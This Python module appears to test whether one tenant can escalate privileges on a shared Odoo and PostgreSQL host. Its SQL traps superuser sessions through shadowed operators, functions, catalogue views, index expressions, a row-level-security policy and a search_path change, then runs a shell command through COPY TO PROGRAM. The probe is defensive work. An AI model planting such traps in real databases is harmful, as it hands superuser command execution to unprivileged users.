"""What a tenant can plant in its own database with its own rights, as its Odoo could in an action.

Each piece of code tells the server's log who runs it, and as a superuser it would run a program.
"""

from __future__ import annotations

LOG = "/var/log/postgresql"
PROOF = "/tmp/phaseline-owned"
SPY = f"""
CREATE FUNCTION public.spy() RETURNS bool LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  RAISE LOG 'spy % of %', current_user, session_user;
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = session_user) THEN
    EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'id >> {PROOF}'$c$;
  END IF;
  RETURN true;
END $$;
"""  # noqa: S608 (our own)
PLANTED = {
    "an operator on oid": """
CREATE FUNCTION public.same(oid, int4) RETURNS bool LANGUAGE sql AS 'SELECT public.spy()';
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = int4, FUNCTION = public.same);
""",
    "an operator on names": """
CREATE FUNCTION public.joined(name, name) RETURNS text LANGUAGE sql
  AS 'SELECT CASE WHEN public.spy() THEN $1::text || $2::text END';
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = name, FUNCTION = public.joined);
""",
    "a function of the catalogue": """
CREATE FUNCTION public.count(name) RETURNS int8 LANGUAGE sql AS 'SELECT 1::int8 WHERE public.spy()';
CREATE FUNCTION public.format(text, name, name) RETURNS text LANGUAGE sql
  AS 'SELECT CASE WHEN public.spy() THEN $1 END';
""",
    "a view of the catalogue's name": """
CREATE VIEW public.pg_namespace AS SELECT * FROM pg_catalog.pg_namespace WHERE public.spy();
CREATE VIEW public.pg_proc AS SELECT * FROM pg_catalog.pg_proc WHERE public.spy();
GRANT SELECT ON public.pg_namespace, public.pg_proc TO PUBLIC;
""",
    "code under an index": """
CREATE FUNCTION public.sorted(int4) RETURNS bool LANGUAGE sql IMMUTABLE AS 'SELECT public.spy()';
CREATE INDEX planted ON public.ir_cron (public.sorted(1), id);
CREATE INDEX planted_part ON public.res_users (id) WHERE public.sorted(2);
CREATE INDEX planted_mail ON public.mail_mail (public.sorted(3), id);
-- the server's own workers analyse as the tables' owner, in sessions of the administrator
ALTER TABLE public.ir_cron SET (autovacuum_enabled = false);
ALTER TABLE public.res_users SET (autovacuum_enabled = false);
ALTER TABLE public.mail_mail SET (autovacuum_enabled = false);
""",
    "views for tables": """
ALTER TABLE public.ir_module_module RENAME TO ir_module_module_kept;
CREATE VIEW public.ir_module_module AS
  SELECT * FROM public.ir_module_module_kept WHERE public.spy();
ALTER TABLE public.mail_mail RENAME TO mail_mail_kept;
CREATE VIEW public.mail_mail AS SELECT * FROM public.mail_mail_kept WHERE public.spy();
GRANT SELECT ON public.mail_mail TO PUBLIC;
""",
    "a policy": """
ALTER TABLE public.ir_cron ENABLE ROW LEVEL SECURITY;
CREATE POLICY planted ON public.ir_cron USING (public.spy());
""",
    "a path of the role": "ALTER ROLE CURRENT_USER SET search_path = public, pg_catalog;",
}


def plant(tenant: str) -> str:
    """Return the script that plants everything as the tenant's own role."""
    sql = "\n".join([SPY, *PLANTED.values()])
    return (
        f"rm -f {PROOF}; cd /\n"
        f"runuser -u odoo-{tenant} -- psql -Xq -v ON_ERROR_STOP=1 -h /run/postgresql"
        f" -U {tenant} -d {tenant} -f - <<'SQL'\n{sql}\nSQL\n"
    )


SPIES = f"""
cat {PROOF} 2> /dev/null
find /tmp /var/tmp /var/lib/postgresql -name phaseline-owned 2> /dev/null
grep -rho 'spy [a-z_]* of [a-z_]*' {LOG} | sort -u
true
"""
